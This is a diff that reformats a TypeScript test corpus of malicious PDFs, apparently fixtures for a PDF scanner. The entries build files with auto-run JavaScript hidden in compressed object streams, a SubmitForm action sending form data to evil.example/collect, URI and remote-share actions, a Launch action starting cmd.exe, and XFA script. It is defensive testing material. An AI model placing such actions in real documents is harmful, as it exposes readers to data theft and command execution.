@@ -15,7 +15,8 @@ export interface CorpusFile {
 }
 
 const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
-const page = (catalogExtra = '', pageExtra = '') => writePdf([{ objects: onePage(catalogExtra, pageExtra), trailer: '/Root 1 0 R' }]);
+const page = (catalogExtra = '', pageExtra = '') =>
+  writePdf([{ objects: onePage(catalogExtra, pageExtra), trailer: '/Root 1 0 R' }]);
 
 /** The catalog and page tree in the file, the action object packed into an object stream. */
 function packedAction(filters: FilterName[], action = js): Buffer {
@@ -34,7 +35,11 @@ function updateAddingAction(action: string, packed: boolean): Buffer {
   const clean = { objects: onePage(), trailer: '/Root 1 0 R' };
   const catalog: PdfObject = { number: 1, body: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` };
   const update = packed
-    ? { objects: [], packed: { objects: [catalog], filters: ['FlateDecode' as const] }, trailer: '/Root 1 0 R' }
+    ? {
+        objects: [],
+        packed: { objects: [catalog], filters: ['FlateDecode' as const] },
+        trailer: '/Root 1 0 R',
+      }
     : { objects: [catalog], trailer: '/Root 1 0 R' };
   return writePdf([clean, update]);
 }
@@ -54,7 +59,10 @@ export const MALICIOUS_PDFS: CorpusFile[] = [
     name: 'the word stream inside a string before the action',
     build: () => page(`/Title (stream\n) /OpenAction ${js} /Subject (endstream)`),
   },
-  { name: 'JavaScript in a FlateDecode object stream (issue 20)', build: () => packedAction(['FlateDecode']) },
+  {
+    name: 'JavaScript in a FlateDecode object stream (issue 20)',
+    build: () => packedAction(['FlateDecode']),
+  },
   { name: 'JavaScript in an ASCIIHexDecode object stream', build: () => packedAction(['ASCIIHexDecode']) },
   { name: 'JavaScript in an ASCII85Decode object stream', build: () => packedAction(['ASCII85Decode']) },
   { name: 'JavaScript in an LZWDecode object stream', build: () => packedAction(['LZWDecode']) },
@@ -67,7 +75,10 @@ export const MALICIOUS_PDFS: CorpusFile[] = [
     name: 'SubmitForm open action (issue 20)',
     build: () => page('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'),
   },
-  { name: 'URI open action (issue 20)', build: () => page('/OpenAction << /S /URI /URI (https://evil.example/) >>') },
+  {
+    name: 'URI open action (issue 20)',
+    build: () => page('/OpenAction << /S /URI /URI (https://evil.example/) >>'),
+  },
   {
     name: 'URI open action in a FlateDecode object stream',
     build: () => packedAction(['FlateDecode'], '<< /S /URI /URI (https://evil.example/) >>'),
@@ -84,7 +95,10 @@ export const MALICIOUS_PDFS: CorpusFile[] = [
   { name: 'document additional action JavaScript (/AA /WC)', build: () => page(`/AA << /WC ${js} >>`) },
   { name: 'Launch action', build: () => page('/OpenAction << /S /Launch /F (cmd.exe) >>') },
   { name: 'ImportData action', build: () => page('/OpenAction << /S /ImportData /F (data.fdf) >>') },
-  { name: 'GoToR remote file', build: () => page('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>') },
+  {
+    name: 'GoToR remote file',
+    build: () => page('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
+  },
   {
     name: 'GoToE embedded target',
     build: () => page('/OpenAction << /S /GoToE /T << /R /C /N (payload) >> /D [0 /Fit] >>'),
@@ -112,7 +126,11 @@ export const MALICIOUS_PDFS: CorpusFile[] = [
         {
           objects: [
             ...onePage('/AcroForm << /Fields [] /XFA 5 0 R >>'),
-            { number: 5, body: '<< >>', stream: Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>') },
+            {
+              number: 5,
+              body: '<< >>',
+              stream: Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'),
+            },
           ],
           trailer: '/Root 1 0 R',
         },
@@ -186,5 +204,8 @@ export const MALICIOUS_PDFS: CorpusFile[] = [
         },
       ]),
   },
-  { name: 'PDF 2.0 header with JavaScript', build: () => writePdf([{ objects: onePage(`/OpenAction ${js}`), trailer: '/Root 1 0 R' }], '%PDF-2.0') },
+  {
+    name: 'PDF 2.0 header with JavaScript',
+    build: () => writePdf([{ objects: onePage(`/OpenAction ${js}`), trailer: '/Root 1 0 R' }], '%PDF-2.0'),
+  },
 ];
